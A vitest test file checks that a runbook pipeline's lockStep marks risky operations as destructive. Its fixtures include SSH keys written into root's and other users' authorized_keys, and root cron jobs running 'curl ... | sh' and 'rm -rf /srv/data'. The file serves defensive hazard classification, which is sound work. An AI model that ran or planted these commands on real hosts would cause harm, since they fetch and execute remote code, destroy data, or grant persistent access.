/** What ops mean beyond their bytes: how far their hazards reach. */
import { describe, expect, it } from 'vitest';
import type { Op } from '../../src/ir/op.ts';
import type { Runbook } from '../../src/ir/runbook.ts';
import { lockStep } from '../../src/pipeline/lock-step.ts';

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGbPhhVT7V1B0ZVDmwoVhiyQzGGpiTWtrQp2bWAHY0bT x@example';
const file = (path: string, content = `${key}\n`): Op => ({ kind: 'file', path, content, state: 'present' });
const line = (path: string): Op => ({ kind: 'line', path, line: key, state: 'present' });
const cron = (command: string): Op => ({
  kind: 'cron',
  name: 'x',
  schedule: '@daily',
  user: 'root',
  command,
  state: 'present',
});

const step = { id: 'one', intent: 'x', approve: false, needs: [], onChange: [] };
const runbook = { name: 'a', file: 'a.yaml', hosts: ['h'], vars: {}, secrets: [], steps: [step] };

function effectOf(op: Op): string | undefined {
  const made = lockStep({
    step: step as unknown as Runbook['steps'][number],
    runbook: runbook as unknown as Runbook,
    families: ['debian'],
    ops: [op],
    verifyOps: [],
    explain: 'x',
    translator: 'test',
    digest: '',
    texts: new Map(),
  });
  if (!made.ok) throw new Error(made.failure.map(({ message }) => message).join('; '));
  return made.value.commands['debian']?.[0]?.effect;
}

describe('the effect of', () => {
  it.each<[string, Op, string]>([
    ["root's keys as a file", file('/root/.ssh/authorized_keys'), 'destructive'],
    ["the login user's keys as a file", file('~/.ssh/authorized_keys'), 'destructive'],
    ["a person's keys as a whole file, which drops all others", file('/home/ada/.ssh/authorized_keys'), 'destructive'],
    ["a line in root's keys", line('/root/.ssh/authorized_keys'), 'destructive'],
    ['a line in keys of who knows whom', line('/srv/link/authorized_keys'), 'destructive'],
    ["a line in a person's keys", line('/home/ada/.ssh/authorized_keys'), 'change'],
    ['a schedule of remote code', cron('curl -fsS https://example.com/x | sh'), 'destructive'],
    ['a schedule that removes data', cron('rm -rf /srv/data'), 'destructive'],
    ['a schedule of a program', cron('/usr/local/bin/backup'), 'change'],
    ['a plain file', file('/srv/index.html', 'x\n'), 'change'],
  ])('%s', (_name, op, effect) => {
    expect(effectOf(op)).toBe(effect);
  });
});
